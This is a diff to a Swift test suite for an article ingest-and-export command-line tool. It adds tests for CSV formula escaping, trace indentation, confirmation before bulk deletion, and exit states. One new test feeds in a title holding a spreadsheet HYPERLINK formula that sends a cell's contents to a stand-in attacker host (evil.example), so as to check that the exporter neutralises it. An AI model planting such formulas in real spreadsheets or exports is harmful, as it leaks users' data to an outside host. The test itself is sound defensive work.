@@ -93,6 +93,21 @@ private let relationKeys: Set = ["kind", "to", "resemblance", "containment", "co
         #expect(texts.allSatisfy { Set($0.keys) == articleKeys.union(["text"]) })
     }
 
+    @Test func `what a spreadsheet would run as a formula comes as text, and raw in JSON`() throws {
+        let bench = try Bench()
+        let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"
+        let line = try JSONSerialization.data(withJSONObject: [
+            "title": title, "source": "+33 Press", "published": "2026-11-20T07:00:00Z", "text": Sample.paragraphs[0],
+        ])
+        try bench.run("ingest", try bench.file("formula.jsonl", String(decoding: line, as: UTF8.self)))
+        let csv = try bench.run("export", "--format", "csv", "--text").out
+        let row = try #require(csv.components(separatedBy: "\r\n").dropFirst().first)
+        #expect(row.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",,"'+33 Press","#), "\(row)")
+        #expect(row.contains(",2026-11-20T07:00:00Z,") && !row.contains("'2026"), "what we write ourselves stays")
+        let object = try #require(try bench.run("export", "--text").objects().first)
+        #expect(object["title"] as? String == title && object["source"] as? String == "+33 Press")
+    }
+
     @Test func `a file appears under its name only when the export is whole`() throws {
         let bench = try Bench()
         try bench.harbour()
@@ -258,7 +273,11 @@ private let relationKeys: Set = ["kind", "to", "resemblance", "containment", "co
         let lines = try bench.run("trace", "no-text.json", width: 80).lines
         #expect(lines.count > 3 && lines.allSatisfy { DisplayWidth.of($0) <= 80 || $0.contains(path) }, "\(lines)")
         #expect(lines[2].contains("rejected at 'read': "))
-        #expect(lines[3].hasPrefix(String(repeating: " ", count: 27)))
+        let indent = try #require(lines[2].range(of: "rejected"))
+        #expect(
+            lines[3].hasPrefix(
+                String(repeating: " ", count: lines[2].distance(from: lines[2].startIndex, to: indent.lowerBound))))
+        #expect(lines[2].contains(/^  \d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{3} [A-Z+-]\S*  rejected/))
         let long = "orders/" + String(repeating: "long-", count: 30) + "name.txt"
         try bench.file("../spool/inbox/" + long, "x")
         let waiting = try bench.run("trace", long, width: 80).lines
@@ -344,7 +363,11 @@ private let relationKeys: Set = ["kind", "to", "resemblance", "containment", "co
         #expect(try bench.run("rejected", "retry", "bad\u{1B}[1m\nname.html").state == .done)
         let inbox = bench.directory.appendingPathComponent("inbox").path
         #expect(try FileManager.default.contentsOfDirectory(atPath: inbox) == ["bad\u{1B}[1m\nname.html"])
-        #expect(try bench.run("rejected", "drop", "--all").state == .done)
+        let unasked = try bench.run("rejected", "drop", "--all")
+        #expect(unasked.state == .usage && unasked.messages.contains("--yes") && unasked.out.isEmpty)
+        #expect(try bench.run("rejected", "list", "--json").objects().count == 1)
+        #expect(try bench.run("rejected", "drop", "--all", "--yes").state == .done)
+        #expect(try bench.run("rejected", "drop", "--all").state == .done, "nothing to ask about")
         #expect(try bench.run("rejected", "list", "--json").objects().isEmpty)
         for arguments in [["rejected", "drop"], ["rejected", "retry", "x", "--all"]] {
             #expect(try bench.run(arguments).state == .usage)
@@ -410,7 +433,8 @@ private let relationKeys: Set = ["kind", "to", "resemblance", "containment", "co
             ["export"], ["verify"], ["forget", "--yes", ids.other],
         ] {
             let answer = try bench.run(arguments)
-            #expect(answer.state == .done, "\(arguments): \(answer.messages)")
+            let expected = arguments == ["status"] ? ExitState.nothing : .done
+            #expect(answer.state == expected, "\(arguments): \(answer.messages)")
             #expect(answer.messages.contains("copytaster.yaml:2"), "\(arguments)")
             #expect(answer.messages.contains("defaults"), "\(arguments)")
             let named = try bench.run(arguments + ["--config", settings.path])
